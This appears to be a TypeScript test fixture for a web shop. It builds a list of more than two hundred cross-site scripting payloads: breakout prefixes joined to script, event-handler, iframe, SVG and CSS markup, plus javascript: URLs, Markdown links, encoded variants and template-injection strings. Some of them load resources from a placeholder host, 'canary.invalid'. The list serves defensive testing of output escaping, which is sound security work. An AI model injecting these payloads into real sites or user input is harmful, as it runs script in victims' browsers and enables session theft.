/** The host that a working payload would call. It does not exist, and no page of the shop may request it. */
export const CANARY = 'canary.invalid'

/** Endings of the places in which a text may be, so that markup can begin after them. */
const BREAKOUTS = ['', '">', "'>", '</title>', '</script>', '</textarea>', '</style>', '-->'] as const

/** Markup that runs by itself, or requests something from another host. */
const MARKUP = [
  '<script>alert(1)</script>',
  `<script src=//${CANARY}/x.js></script>`,
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  `<img src=//${CANARY}/x.png>`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src=javascript:parent.alert(1)></iframe>',
  `<iframe src=//${CANARY}/></iframe>`,
  '<object data=x onerror=alert(1)></object>',
  `<embed src=//${CANARY}/x>`,
  `<link rel=stylesheet href=//${CANARY}/x.css>`,
  `<style>@import '//${CANARY}/x.css'</style>`,
  `<p style="background:url(//${CANARY}/x)">x</p>`,
  `<meta http-equiv=refresh content="0;url=//${CANARY}/">`,
] as const

/** What does harm only where a text is taken for something else than text: an address, Markdown, a template, a second encoding. */
const OTHERS = [
  'javascript:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>parent.alert(1)</script>',
  '[x](javascript:alert(1))',
  '![x](javascript:alert(1))',
  `![x](//${CANARY}/x.png)`,
  '<javascript:alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '%3Cimg src=x onerror=alert(1)%3E',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '\u2028alert(1)//',
] as const

/** More than two hundred hostile texts (spec T5, P15). */
export const PAYLOADS: readonly string[] = [
  ...BREAKOUTS.flatMap((breakout) => MARKUP.map((markup) => breakout + markup)),
  ...OTHERS,
]
